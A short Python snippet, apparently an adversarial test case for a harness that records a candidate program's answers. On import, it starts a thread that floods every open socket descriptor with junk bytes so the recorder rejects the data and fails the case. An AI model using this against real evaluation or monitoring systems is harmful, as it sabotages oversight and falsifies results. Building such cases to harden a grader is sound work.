# ---- the attack -------------------------------------------------------------------------
# From a thread, write garbage on the socket the recorder reads the answers from, so that it
# reads something else than the answer to its question. Each process of the candidate's does
# it again. The recorder reads a length it refuses, restarts the process, and fails the case.
import os as _os
import threading as _threading


def _flood():
    for _name in _os.listdir("/proc/self/fd"):
        try:
            if _os.readlink("/proc/self/fd/" + _name).startswith("socket:"):
                while True:
                    _os.write(int(_name), b"\xff" * 65536)
        except OSError:
            pass


_threading.Thread(target=_flood, daemon=True).start()
